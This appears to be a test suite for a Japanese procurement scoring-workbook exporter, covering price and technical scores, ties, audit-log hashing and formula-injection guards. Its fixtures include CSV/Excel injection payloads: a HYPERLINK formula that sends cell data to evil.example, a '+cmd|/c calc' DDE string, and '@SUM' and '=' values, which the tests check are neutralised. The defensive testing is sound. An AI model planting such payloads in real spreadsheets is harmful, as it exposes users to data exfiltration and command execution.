import ExcelJS from 'exceljs';
import * as XLSX from 'xlsx';
import { describe, expect, it } from 'vitest';
import type { AttestationTypeInfo } from '../domain/catalogue';
import { newAttestationFields } from '../domain/defaults';
import type { ProcurementBundle } from '../domain/model';
import { scoreProcurement } from '../domain/scoring';
import { scoringInputOf } from '../domain/scoring-input';
import { chainEntry, type ChainCheck } from '../domain/audit';
import { correctionAfter } from '../domain/freeze';
import { sha256Text } from '../domain/sha256';
import { buildScoringWorkbook, type ScoringWorkbookInput } from './scoring-workbook';
import { scenarioBundle, TIED, WORKED_EXAMPLE } from '$lib/testing/scoring-workbook';
import { WORKBOOK_SHEETS as SHEET_KEYS } from '$lib/i18n/workbook-labels';
import { SHEET_NAMES } from './scoring-workbook-sheet';

const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

const TYPES: AttestationTypeInfo[] = [
  {
    type: 'iso27001',
    name: { ja: 'ISO/IEC 27001 認証', en: 'ISO/IEC 27001 certification' },
    assuranceRank: 4,
    validity: { kind: 'statedExpiry', invalidEditions: [] },
    hasOpinion: false
  }
];

const OK_CHAIN: ChainCheck = { ok: true, count: 0, head: '0'.repeat(64) };

/** The worked example with a hostile company name, answer, rationale and attestation. */
function workedBundle(patch: Parameters<typeof scenarioBundle>[0]['settings'] = {}): ProcurementBundle {
  const bundle = scenarioBundle({
    ...WORKED_EXAMPLE,
    vendors: { ...WORKED_EXAMPLE.vendors, C: { ...WORKED_EXAMPLE.vendors.C!, company: HOSTILE } },
    settings: patch
  });
  bundle.responses.push({
    id: 'resp1',
    procurementId: 'p1',
    vendorId: 'A',
    requirementId: 'm1',
    answer: 'full',
    explanation: '@SUM(1+1)',
    evidenceRefs: '',
    updatedAt: '2025-01-01T00:00:00.000Z',
    source: 'import'
  });
  bundle.grades[0]!.rationale = '+cmd|/c calc';
  bundle.attestations.push({
    ...newAttestationFields(),
    id: 'att1',
    procurementId: 'p1',
    vendorId: 'A',
    type: 'iso27001',
    number: '-IS 1',
    issuer: '架空認証機構',
    expiry: '2026-03-31',
    verification: { source: 'register', checkedOn: '2025-02-01', checkedBy: '佐藤', result: 'confirmed' }
  });
  return bundle;
}

function inputOf(bundle: ProcurementBundle, extra: Partial<ScoringWorkbookInput> = {}): ScoringWorkbookInput {
  return {
    bundle,
    result: scoreProcurement(scoringInputOf(bundle)),
    attestationTypes: TYPES,
    today: '2025-03-01',
    chain: OK_CHAIN,
    stability: null,
    exportedAt: '2025-04-01T00:00:00.000Z',
    ...extra
  };
}

async function readBack(bytes: Uint8Array) {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes as unknown as ArrayBuffer);
  return book;
}

/** The row of a sheet whose column `column` (1-based) holds the text. */
function rowWith(sheet: ExcelJS.Worksheet, column: number, text: string): ExcelJS.Row {
  for (let r = 1; r <= sheet.rowCount; r++) {
    if (sheet.getRow(r).getCell(column).value === text) return sheet.getRow(r);
  }
  throw new Error(`no row with ${text} in ${sheet.name}`);
}

const formulaOf = (cell: ExcelJS.Cell): string => (cell.value as ExcelJS.CellFormulaValue).formula;
const resultOf = (cell: ExcelJS.Cell): unknown => (cell.value as ExcelJS.CellFormulaValue).result;

describe('sheet names', () => {
  it.each(['ja', 'en'] as const)('%s: eleven names Excel accepts', (locale) => {
    const names = SHEET_KEYS.map((k) => SHEET_NAMES[locale][k]);
    expect(new Set(names).size).toBe(11);
    for (const name of names) {
      expect(name.length).toBeLessThanOrEqual(31);
      expect(name).not.toMatch(/[[\]:*?/\\']/);
    }
  });
});

describe('価格点計算: the bid as written, with its tax basis, beside the bid evaluated', async () => {
  // 事業者A wrote 7,272.728 千円 税抜; at 10 % that is ⌊7,272,728 × 110 ÷ 100⌋ = 8,000,000 円 税込,
  // the worked example's bid, so every figure stays the worked example's.
  const bundle = workedBundle();
  const typed = { yen: 7_272_728, unit: 'thousandYen', taxBasis: 'excluded' } as const;
  const converted = Math.floor((typed.yen * 110) / 100);
  bundle.vendors = bundle.vendors.map((v) =>
    v.id === 'A' ? { ...v, bidPrice: converted, bidTyped: typed } : v
  );
  const book = await readBack(await buildScoringWorkbook(inputOf(bundle)));
  const price = book.getWorksheet('価格点計算')!;

  it('shows the typed amount and basis in its own column, the evaluated bid in the formula column', () => {
    const header = rowWith(price, 1, '事業者');
    expect(header.getCell(7).value).toBe('入札書の金額（入力した額と税区分）');
    const a = rowWith(price, 1, '事業者A');
    expect(a.getCell(3).value).toBe(converted);
    expect(a.getCell(7).value).toBe('7,272.728千円（税抜）');
    expect(resultOf(a.getCell(6))).toBe(10);
    // A bid recorded before bids had a basis reads as typed in 円 on the evaluation basis.
    expect(rowWith(price, 1, '事業者B').getCell(7).value).toBe('9,500,000円（税込）');
  });

  it('評価基準 states the rate with the price basis', () => {
    const criteria = book.getWorksheet('評価基準')!;
    expect(rowWith(criteria, 1, '価格の基準').getCell(2).value).toBe('税込・消費税率 10%・1 年分');
  });

  it('states the evaluation basis, the rate and the conversion rule', () => {
    const row = rowWith(price, 1, '価格の税区分');
    expect(String(row.getCell(2).value)).toContain('税込で評価（消費税率 10%');
    expect(String(row.getCell(2).value)).toContain('円未満切捨て');
  });
});

describe('the worked example (加算方式 standard)', async () => {
  const progress: [number, number][] = [];
  const bytes = await buildScoringWorkbook(inputOf(workedBundle()), {
    onProgress: (done, total) => progress.push([done, total])
  });
  const book = await readBack(bytes);
  const sheet = (name: string) => book.getWorksheet(name)!;

  it('has the ten sheets in order, with the title block', () => {
    expect(book.worksheets.map((s) => s.name)).toEqual(SHEET_KEYS.map((k) => SHEET_NAMES.ja[k]));
    const criteria = sheet('評価基準');
    expect(criteria.getCell('B2').value).toBe('試験用の調達');
    expect(criteria.getCell('B3').value).toBe('架空省');
    expect(String(criteria.getCell('B5').value)).toContain('ab'.repeat(32));
  });

  it.each(SHEET_KEYS.map((k) => SHEET_NAMES.ja[k]))('%s: A4 landscape, fitted, frozen, titled', (name) => {
    const s = sheet(name);
    expect(s.pageSetup.paperSize).toBe(9);
    expect(s.pageSetup.orientation).toBe('landscape');
    expect(s.pageSetup.fitToWidth).toBe(1);
    expect(s.pageSetup.printTitlesRow).toMatch(/^\d+:\d+$/);
    expect(s.views[0]?.state).toBe('frozen');
  });

  it.each([
    ['事業者A', 20, 66.66],
    ['事業者B', 20, 72.5],
    ['事業者C', 10, 70]
  ])('集計: %s 基礎点 %d, 技術点 %d as live formulas with the cached figure', (vendor, base, technical) => {
    const tally = sheet('集計');
    const row = rowWith(tally, 9, vendor === '事業者C' ? `'${HOSTILE}` : vendor);
    // Every score is a whole multiple of 1/24 (factors in quarters, means over 1–3 grades): the sum
    // × 24 is rounded to its integer, then floored at 2 decimals by an exact integer quotient.
    expect(formulaOf(row.getCell(10))).toMatch(
      /^\(INT\(\(ROUND\(SUMIF\(C\d+:C\d+,"必須",G\d+:G\d+\)\*24,0\)\*100\)\/24\)-.*\/100$/
    );
    expect(resultOf(row.getCell(10))).toBe(base);
    expect(formulaOf(row.getCell(12))).toMatch(
      /^\(INT\(\(ROUND\(SUM\(G\d+:G\d+\)\*24,0\)\*100\)\/24\)-.*\/100$/
    );
    expect(resultOf(row.getCell(12))).toBe(technical);
  });

  it('集計: item scores are formulas over the grade cells and the rubric', () => {
    const tally = sheet('集計');
    // Vendor A, item 3 (C D C → mean factor 0.41666…, score 4.1666…).
    const row = tally.getRow(8 + 4);
    expect(row.getCell(2).value).toBe('R-005');
    expect(formulaOf(row.getCell(5))).toContain("SUMPRODUCT(SUMIF('評価基準'!$A$");
    expect(resultOf(row.getCell(5))).toBeCloseTo(1.25 / 3, 12);
    expect(formulaOf(row.getCell(7))).toBe('IF(F12="","",D12*F12)');
    expect(resultOf(row.getCell(7))).toBeCloseTo(12.5 / 3, 12);
    // Vendor B, mandatory item 1: 2 of 3 pass under the majority rule.
    const split = tally.getRow(8 + 5);
    expect(resultOf(split.getCell(5))).toBe(2);
    expect(formulaOf(split.getCell(6))).toContain("'評価基準'!$B$");
    expect(resultOf(split.getCell(6))).toBe('○');
  });

  it('評価者別採点: every grade and rationale, guarded', () => {
    const grades = sheet('評価者別採点');
    const first = grades.getRow(8);
    expect([5, 6, 7].map((c) => first.getCell(c).value)).toEqual(['○', '○', '○']);
    expect(first.getCell(9).value).toBe("'+cmd|/c calc");
  });

  it.each([
    ['事業者A', 10],
    ['事業者B', 2.5]
  ])('価格点計算: %s 価格点 %d with the price formula and rounding rule', (vendor, price) => {
    const row = rowWith(sheet('価格点計算'), 1, vendor);
    // P × (C − b) ÷ C in integers, floored by an integer quotient with its correction (no ROUND(x,12)).
    const f = formulaOf(row.getCell(6));
    expect(f).toMatch(
      /^\(INT\(\('評価基準'!\$B\$\d+\*\('評価基準'!\$B\$\d+-C\d+\)\*100\)\/'評価基準'!\$B\$\d+\)-/
    );
    expect(f).toMatch(/\/100$/);
    expect(f).not.toContain(',12)');
    expect(resultOf(row.getCell(6))).toBe(price);
  });

  it.each([
    ['事業者A', 1, 76.66],
    ['事業者B', 2, 75]
  ])('総合評価: %s rank %d, total %d as formulas', (vendor, rank, total) => {
    const row = rowWith(sheet('総合評価'), 2, vendor);
    expect(formulaOf(row.getCell(1))).toContain('COUNTIFS(');
    expect(resultOf(row.getCell(1))).toBe(rank);
    // Both parts have 2 decimals, so their sum is exact at 2: no rounding step is left.
    expect(formulaOf(row.getCell(7))).toMatch(/^ROUND\(\(E\d+\+F\d+\)\*100,0\)\/100$/);
    expect(resultOf(row.getCell(7))).toBe(total);
    expect(row.getCell(4).value).toBe('合格');
  });

  it('総合評価: the disqualified vendor has no total and every reason, its name guarded', () => {
    const row = rowWith(sheet('総合評価'), 2, `'${HOSTILE}`);
    expect(row.getCell(1).value).toBeNull();
    expect(row.getCell(7).value).toBeNull();
    expect(row.getCell(4).value).toBe('不合格');
    expect(row.getCell(9).value).toBe('必須項目 R-002 不適合');
  });

  it('評価項目一覧: answers guarded, mandatory verdicts linked to 集計', () => {
    const items = sheet('評価項目一覧');
    const row = items.getRow(8);
    expect(row.getCell(6).value).toBe('対応');
    expect(row.getCell(7).value).toBe("'@SUM(1+1)");
    expect(formulaOf(row.getCell(8))).toBe("'集計'!F8");
    expect(resultOf(row.getCell(8))).toBe('○');
  });

  it('証跡台帳, 安定性, 監査ログ: status, guard, not computed, chain', () => {
    const evidence = rowWith(sheet('証跡台帳'), 1, '事業者A');
    expect(evidence.getCell(4).value).toBe("'-IS 1");
    expect(evidence.getCell(8).value).toBe('有効');
    expect(String(evidence.getCell(11).value)).toContain('確認済み');
    expect(sheet('安定性').getCell('B7').value).toBe('未計算');
    expect(String(sheet('監査ログ').getCell('B7').value)).toContain('正常');
  });

  it('証跡台帳: each exception with its criterion, test result, response and the items it reaches', async () => {
    const b = workedBundle();
    const item = b.requirements.find((r) => r.kind === 'scored')!;
    item.controlRefs = ['tsc:CC6.1'];
    b.attestations.push({
      ...newAttestationFields(),
      id: 'att2',
      procurementId: 'p1',
      vendorId: 'A',
      type: 'soc2Type2',
      issuer: '監査法人甲',
      opinion: 'qualified',
      exceptions: [
        {
          criterion: 'CC6.1',
          description: '=MFA 未設定',
          testResult: '25件中2件',
          managementResponse: '是正済み',
          requirementIds: []
        }
      ]
    });
    const ledger = (await readBack(await buildScoringWorkbook(inputOf(b)))).getWorksheet('証跡台帳')!;
    const exception = rowWith(ledger, 4, '例外事項');
    expect([5, 6, 7, 8, 9].map((c) => exception.getCell(c).value)).toEqual([
      'CC6.1',
      "'=MFA 未設定",
      '25件中2件',
      '是正済み',
      item.ref
    ]);
    const qualified = rowWith(ledger, 5, 'CC6.1');
    expect(String(qualified.getCell(4).value)).toContain('限定付意見');
    expect(qualified.getCell(9).value).toBe(item.ref);
  });

  it('締切後の訂正: one row saying there is none', () => {
    const corrections = sheet('締切後の訂正');
    expect(corrections.getCell('A8').value).toBe('技術評価の締切り後の訂正はありません。');
    expect(corrections.getCell('A9').value).toBeNull();
  });

  it('no text cell holds a formula: SheetJS sees formulas only where the builder wrote them', () => {
    const read = XLSX.read(bytes, { type: 'array' });
    const hostile = Object.values(read.Sheets)
      .flatMap((s) => Object.entries(s))
      .filter(([key, c]) => !key.startsWith('!') && typeof (c as XLSX.CellObject).f === 'string')
      .map(([, c]) => (c as XLSX.CellObject).f!)
      .filter((f) => /HYPERLINK|cmd|@SUM/.test(f));
    expect(hostile).toEqual([]);
  });

  it('reports progress up to the total', () => {
    expect(progress.length).toBeGreaterThanOrEqual(2);
    const last = progress.at(-1)!;
    expect(last[0]).toBe(last[1]);
    for (let i = 1; i < progress.length; i++)
      expect(progress[i]![0]).toBeGreaterThanOrEqual(progress[i - 1]![0]);
  });
});

describe('post-close corrections', async () => {
  const bundle = workedBundle();
  const reason = '=事業者からの訂正届による';
  const previous = chainEntry(
    {
      procurementId: 'p1',
      at: '2025-03-10T00:00:00.000Z',
      actor: '委員長',
      action: 'evaluation.lockTechnical',
      entityKind: 'procurement',
      entityId: 'p1',
      before: '',
      after: ''
    },
    undefined,
    sha256Text
  );
  const correction = chainEntry(
    {
      procurementId: 'p1',
      at: '2025-03-12T00:00:00.000Z',
      actor: '委員長',
      action: 'correction.response.put',
      entityKind: 'response',
      entityId: 'resp1',
      before: '{"answer":"partial"}',
      after: correctionAfter(reason, { answer: 'full' })
    },
    previous,
    sha256Text
  );
  bundle.audit.push(previous, correction);
  const ja = await readBack(await buildScoringWorkbook(inputOf(bundle)));
  const en = await readBack(await buildScoringWorkbook(inputOf(bundle), { locale: 'en' }));

  it('lists when, who, what, the record, the guarded reason, before and after', () => {
    const row = ja.getWorksheet('締切後の訂正')!.getRow(8);
    expect([1, 2, 3, 4, 5, 6, 7, 8].map((c) => row.getCell(c).value)).toEqual([
      2,
      '2025年3月12日 09:00:00',
      '委員長',
      '回答の記録',
      '事業者A R-001',
      `'${reason}`,
      '{"answer":"partial"}',
      '{"answer":"full"}'
    ]);
    expect(ja.getWorksheet('締切後の訂正')!.getRow(9).getCell(1).value).toBeNull();
  });

  it('labels the sheet and its columns in English', () => {
    const sheet = en.getWorksheet('Post-close corrections')!;
    expect(sheet.getRow(7).getCell(6).value).toBe('Reason for the correction');
    expect(sheet.getRow(8).getCell(4).value).toBe('Answer recorded');
  });
});

describe('the division method variant', async () => {
  const bundle = workedBundle({ priceMethod: 'division' });
  const bytes = await buildScoringWorkbook(inputOf(bundle), { locale: 'en' });
  const book = await readBack(bytes);

  it('uses the English sheet names', () => {
    expect(book.worksheets.map((s) => s.name)).toEqual(SHEET_KEYS.map((k) => SHEET_NAMES.en[k]));
  });

  it.each([
    ['事業者A', 833.25, 1],
    ['事業者B', 763.1578, 2]
  ])('%s: 評価値 %d, rank %d', (vendor, value, rank) => {
    const price = rowWith(book.getWorksheet('Price points')!, 1, vendor);
    // 技術点 × 100 × S × 100 ÷ b: ⌊評価値 × 10⁴⌋ as an integer quotient, then ÷ 10⁴.
    const f = formulaOf(price.getCell(6));
    expect(f).toMatch(/^\(INT\(\(ROUND\(E\d+\*100,0\)\*'Criteria'!\$B\$\d+\*100\)\/C\d+\)-/);
    expect(f).toMatch(/\/10000$/);
    expect(resultOf(price.getCell(6))).toBe(value);
    const overall = rowWith(book.getWorksheet('Overall ranking')!, 2, vendor);
    expect(resultOf(overall.getCell(7))).toBe(value);
    expect(resultOf(overall.getCell(1))).toBe(rank);
  });

  it('基準評価値 = Σ 基礎点 ÷ 予定価格 × S, floored at 4', () => {
    const row = rowWith(book.getWorksheet('Price points')!, 1, 'Reference evaluation value');
    expect(formulaOf(row.getCell(2))).toContain('SUMIF(');
    expect(resultOf(row.getCell(2))).toBe(200);
  });
});

describe('stability results', async () => {
  const bundle = workedBundle();
  const bytes = await buildScoringWorkbook(
    inputOf(bundle, {
      stability: {
        mode: 'full',
        oneAtATime: {
          base: 'A',
          changes: [{ varied: { kind: 'evaluatorLeftOut', evaluatorId: 'e3' }, firstPlace: 'B' }]
        },
        draws: { draws: 100, firstPlaceShare: { A: 0.75, B: 0.25 }, noWinner: 0 }
      }
    })
  );
  const sheet = (await readBack(bytes)).getWorksheet('安定性')!;

  it('lists each change of the first place and the shares of the draws', () => {
    expect(rowWith(sheet, 1, '評価者「評価者3」を除外').getCell(2).value).toBe('事業者B');
    expect(rowWith(sheet, 1, '事業者A').getCell(2).value).toBe(0.75);
    expect(rowWith(sheet, 1, '事業者B').getCell(2).value).toBe(0.25);
  });
});

describe('ties', () => {
  it.each([
    ['settled by lot', TIED.tieResolutions!, [1, 2, 3], ['value', 'value', 'formula']],
    ['unsettled', [], [1, 1, 3], ['formula', 'formula', 'formula']]
  ] as const)('%s: ranks %j', async (_, tieResolutions, ranks, kinds) => {
    const bundle = scenarioBundle({ ...TIED, tieResolutions: [...tieResolutions] });
    const book = await readBack(await buildScoringWorkbook(inputOf(bundle)));
    const sheet = book.getWorksheet('総合評価')!;
    const cells = ['事業者Y', '事業者X', '事業者Z'].map((v) => rowWith(sheet, 2, v).getCell(1));
    const found = cells.map((c) => (typeof c.value === 'number' ? c.value : resultOf(c)));
    expect([...found].sort()).toEqual([...ranks]);
    expect(cells.map((c) => (typeof c.value === 'number' ? 'value' : 'formula')).sort()).toEqual(
      [...kinds].sort()
    );
  });
});

describe('the audit log in words, and as recorded', async () => {
  const bundle = workedBundle();
  const first = chainEntry(
    {
      procurementId: 'p1',
      at: '2025-03-10T05:12:00.000Z',
      actor: '佐藤',
      action: 'vendor.update',
      entityKind: 'vendor',
      entityId: 'A',
      before: '{"company":"旧社名","notes":"x"}',
      after: '{"company":"事業者A","notes":"y"}'
    },
    undefined,
    sha256Text
  );
  const second = chainEntry(
    {
      procurementId: 'p1',
      at: '2025-03-12T00:00:00.000Z',
      actor: '委員長',
      action: 'correction.response.put',
      entityKind: 'response',
      entityId: 'resp1',
      before: '{"answer":"partial"}',
      after: correctionAfter('訂正届による', { answer: 'full' })
    },
    first,
    sha256Text
  );
  const third = chainEntry(
    {
      procurementId: 'p1',
      at: '2025-03-13T00:00:00.000Z',
      actor: '委員長',
      action: 'vendor.remove',
      entityKind: 'vendor',
      entityId: 'gone',
      before: '{"company":"撤退した事業者","notes":"…',
      after: ''
    },
    second,
    sha256Text
  );
  bundle.audit.push(first, second, third);
  const western = await readBack(await buildScoringWorkbook(inputOf(bundle)));
  const wareki = await readBack(await buildScoringWorkbook(inputOf(bundle), { dateStyle: 'japanese' }));
  const cells = (book: ExcelJS.Workbook, sheet: string, row: number, count: number) =>
    Array.from(
      { length: count },
      (_, c) =>
        book
          .getWorksheet(sheet)!
          .getRow(row)
          .getCell(c + 1).value
    );

  it('says when in Japan time, who, what, on which record by name, and what changed by field', () => {
    expect(cells(western, '監査ログ', 9, 6)).toEqual([
      '連番',
      '日時（日本時間）',
      '操作者',
      '操作',
      '対象',
      '変更の要約'
    ]);
    expect(cells(western, '監査ログ', 10, 6)).toEqual([
      1,
      '2025年3月10日 14:12:00',
      '佐藤',
      '事業者の変更',
      '事業者: 事業者A',
      '会社名: 旧社名 → 事業者A\nほか 1 項目'
    ]);
    expect(cells(western, '監査ログ', 11, 6)).toEqual([
      2,
      '2025年3月12日 09:00:00',
      '委員長',
      '締切後の訂正: 回答の記録',
      '回答: 事業者A R-001',
      '理由: 訂正届による\n回答: 一部対応 → 対応'
    ]);
    const removed = cells(western, '監査ログ', 12, 6);
    expect(removed[4]).toBe('事業者: （削除済みの記録）');
    expect(removed[5]).toBe('変更前・変更後は「監査ログ（機械可読）」シートの連番 3 を参照');
  });

  it('writes 和暦 when asked', () => {
    expect(cells(wareki, '監査ログ', 10, 2)[1]).toBe('令和7年3月10日 14:12:00');
    expect(String(wareki.getWorksheet('監査ログ')!.getCell('B4').value)).toMatch(/^令和/);
  });

  it('keeps every entry as recorded on 監査ログ（機械可読）, enough to re-verify the chain', () => {
    const sheet = western.getWorksheet('監査ログ（機械可読）')!;
    expect(sheet.getCell('B8').value).toBe('p1');
    const stored = [first, second, third];
    stored.forEach((e, i) => {
      const row = cells(western, '監査ログ（機械可読）', 10 + i, 10);
      const entry = {
        procurementId: String(sheet.getCell('B8').value),
        seq: row[0] as number,
        at: row[1] as string,
        actor: row[2] as string,
        action: row[3] as string,
        entityKind: row[4] as string,
        entityId: row[5] as string,
        before: (row[6] as string | null) ?? '',
        after: (row[7] as string | null) ?? '',
        prevHash: row[8] as string
      };
      // Re-hashing what the sheet holds gives each entry's recorded hash, and the next one's prevHash.
      expect(chainEntry(entry, i === 0 ? undefined : stored[i - 1], sha256Text).hash).toBe(row[9]);
      expect(row[9]).toBe(e.hash);
    });
  });
});

describe('rows tall enough for their wrapped text', async () => {
  const bundle = workedBundle();
  const long = '利用者データを日本国内のデータセンターにのみ保管し、準拠法を日本法とすること。'.repeat(4);
  bundle.requirements[0]!.text = long;
  const book = await readBack(await buildScoringWorkbook(inputOf(bundle)));
  const sheet = book.getWorksheet('評価基準')!;

  it('sets the height of the row holding a long 内容, and tops every value in it', () => {
    const row = rowWith(sheet, 4, long);
    expect(row.height).toBeGreaterThanOrEqual(4 * 16);
    expect(row.getCell(1).alignment?.vertical).toBe('top');
  });

  it('repeats the header on every page and names the procurement, sheet, page and criteria hash', () => {
    expect(sheet.pageSetup.printTitlesRow).toMatch(/^\d+:\d+$/);
    expect(sheet.pageSetup.fitToWidth).toBe(1);
    expect(sheet.pageSetup.fitToHeight).toBe(0);
    expect(sheet.headerFooter.oddHeader).toContain('&R評価基準');
    expect(sheet.headerFooter.oddFooter).toContain('ページ &P / &N');
    expect(sheet.headerFooter.oddFooter).toMatch(/第\d+版 [0-9a-f]{12}$/);
  });
});

describe('the stated 技術点:価格点 on the 評価基準 sheet', () => {
  const rowOf = (sheet: ExcelJS.Worksheet) =>
    sheet.getRows(1, sheet.rowCount)!.find((r) => r.getCell(1).value === '調達で定めた技術点:価格点の比率');
  it.each([
    ['stated', { statedRatio: { technical: 3, price: 1 } }, '3:1'],
    ['not stated', { statedRatio: null }, 'なし']
  ] as const)('%s', async (_name, patch, shown) => {
    const book = await readBack(await buildScoringWorkbook(inputOf(workedBundle(patch))));
    expect(rowOf(book.getWorksheet('評価基準')!)?.getCell(2).value).toBe(shown);
  });
});
